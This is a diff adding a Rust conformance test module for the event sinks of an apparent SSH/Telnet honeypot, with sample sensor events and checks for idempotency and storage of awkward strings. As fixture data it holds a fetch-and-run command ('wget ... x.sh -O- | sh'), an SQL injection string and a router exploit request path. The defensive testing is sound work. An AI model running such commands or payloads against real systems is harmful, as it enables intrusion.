@@ -1,0 +1,194 @@
+//! A conformance suite for [`Sink`] implementations, and sample events of every kind.
+//!
+//! Every backend's tests call [`sink_conformance`] so that all sinks keep the same
+//! promises: idempotency on the event id, hostile strings stored as they are, and a
+//! report that covers every event.
+
+use std::future::Future;
+use std::net::IpAddr;
+
+use crate::event::{AuthMethod, Event, EventKind, Protocol, Timestamp};
+use crate::sink::Sink;
+
+/// One event of every kind, with the fields a real sensor would fill, at `base` onwards.
+pub fn sample_events(base: Timestamp) -> Vec<Event> {
+    let ip: IpAddr = "203.0.113.50".parse().unwrap_or(IpAddr::from([203, 0, 113, 50]));
+    let kinds = vec![
+        EventKind::SessionStarted,
+        EventKind::ClientVersion {
+            version: "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3".into(),
+        },
+        EventKind::ClientFingerprint {
+            method: "hassh".into(),
+            fingerprint: "ec7378c1a92f5a8dde7e8b7a1ddf33d1".into(),
+            algorithms: Some("curve25519-sha256;aes128-ctr;hmac-sha2-256;none".into()),
+        },
+        EventKind::LoginAttempt {
+            username: "root".into(),
+            password: Some("admin".into()),
+            key_type: None,
+            key_fingerprint: None,
+            method: AuthMethod::Password,
+            success: false,
+        },
+        EventKind::LoginAttempt {
+            username: "root".into(),
+            password: None,
+            key_type: Some("ssh-ed25519".into()),
+            key_fingerprint: Some("SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU".into()),
+            method: AuthMethod::Publickey,
+            success: true,
+        },
+        EventKind::CommandInput {
+            command: "cd /tmp; wget http://198.51.100.9/x.sh -O- | sh".into(),
+        },
+        EventKind::FileDownload {
+            url: "http://198.51.100.9/x.sh".into(),
+            sha256: Some("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".into()),
+            size: Some(4),
+            error: None,
+        },
+        EventKind::FileUpload {
+            filename: "/tmp/.x".into(),
+            sha256: Some("2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae".into()),
+            size: Some(3),
+        },
+        EventKind::HttpRequest {
+            method: "POST".into(),
+            uri: "/cgi-bin/luci/;stok=/locale?form=country".into(),
+            host: Some("203.0.113.1".into()),
+            user_agent: Some("Mozilla/5.0".into()),
+            status: Some(404),
+        },
+        EventKind::PortForward {
+            host: "198.51.100.25".into(),
+            port: 25,
+            accepted: false,
+        },
+        EventKind::Unknown {
+            original_type: "cowrie.client.size".into(),
+            fields: serde_json::json!({"width": 80, "height": 24})
+                .as_object()
+                .cloned()
+                .unwrap_or_default(),
+        },
+        EventKind::SessionClosed {
+            duration_ms: 1234,
+            recording: Some("recordings/s1.cast".into()),
+        },
+    ];
+    kinds
+        .into_iter()
+        .enumerate()
+        .map(|(i, kind)| {
+            Event::new("conformance", Protocol::Ssh, ip, kind)
+                .with_session("s1")
+                .with_source_port(40000)
+                .with_destination(IpAddr::from([192, 0, 2, 1]), 22)
+                .with_time(base.saturating_add_micros(i as i64 * 1000))
+        })
+        .collect()
+}
+
+/// Events whose strings a careless sink would mangle: quotes, NUL, emoji, SQL, long text.
+pub fn hostile_events(base: Timestamp) -> Vec<Event> {
+    let ip: IpAddr = IpAddr::from([0x2001, 0xdb8, 0, 0, 0, 0, 0, 7]);
+    [
+        "'; DROP TABLE events; --",
+        "quote\" and \\ backslash",
+        "nul\0byte",
+        "emoji 🐉 and ünïcödé",
+        &"x".repeat(60_000),
+        "",
+    ]
+    .iter()
+    .enumerate()
+    .map(|(i, text)| {
+        Event::new(
+            "conformance",
+            Protocol::Telnet,
+            ip,
+            EventKind::CommandInput {
+                command: (*text).to_owned(),
+            },
+        )
+        .with_time(base.saturating_add_micros(i as i64))
+    })
+    .collect()
+}
+
+/// Runs the sink conformance suite. `count_stored` must return how many events the sink's
+/// backing store holds (the suite starts from an empty store).
+///
+/// # Panics
+/// On the first broken promise, with a message naming it (this is a test helper).
+pub async fn sink_conformance<S, F, Fut>(sink: &S, count_stored: F)
+where
+    S: Sink + ?Sized,
+    F: Fn() -> Fut,
+    Fut: Future<Output = u64>,
+{
+    let base = Timestamp::now().saturating_add_micros(-60_000_000);
+    assert_eq!(count_stored().await, 0, "the suite needs an empty store");
+
+    let report = sink.write(&[]).await;
+    assert!(report.is_ok(), "an empty batch must succeed: {report:?}");
+
+    let samples = sample_events(base);
+    let refs: Vec<&Event> = samples.iter().collect();
+    let report = sink.write(&refs).await;
+    assert!(
+        matches!(&report, Ok(r) if r.rejected.is_empty()),
+        "every sample kind must be accepted: {report:?}"
+    );
+    assert_eq!(
+        count_stored().await,
+        samples.len() as u64,
+        "every sample must be stored"
+    );
+
+    let report = sink.write(&refs).await;
+    assert!(report.is_ok(), "re-delivery must succeed: {report:?}");
+    assert_eq!(
+        count_stored().await,
+        samples.len() as u64,
+        "re-delivery must not store duplicates"
+    );
+
+    let hostile = hostile_events(base);
+    let mut mixed: Vec<&Event> = hostile.iter().collect();
+    mixed.extend(refs.iter().take(3));
+    let report = sink.write(&mixed).await;
+    assert!(
+        matches!(&report, Ok(r) if r.rejected.is_empty()),
+        "hostile strings must be stored as they are: {report:?}"
+    );
+    assert_eq!(
+        count_stored().await,
+        (samples.len() + hostile.len()) as u64,
+        "a batch mixing new and already stored events stores only the new ones"
+    );
+
+    let large: Vec<Event> = (0..2500)
+        .map(|i| {
+            Event::new(
+                "conformance",
+                Protocol::Ssh,
+                IpAddr::from([198, 51, 100, (i % 250) as u8 + 1]),
+                EventKind::CommandInput {
+                    command: format!("echo {i}"),
+                },
+            )
+            .with_time(base.saturating_add_micros(i))
+        })
+        .collect();
+    let refs: Vec<&Event> = large.iter().collect();
+    let report = sink.write(&refs).await;
+    assert!(report.is_ok(), "a large batch must succeed: {report:?}");
+    assert_eq!(
+        count_stored().await,
+        (samples.len() + hostile.len() + large.len()) as u64,
+        "a large batch must be stored whole"
+    );
+    assert!(sink.close().await.is_ok(), "close must succeed");
+}
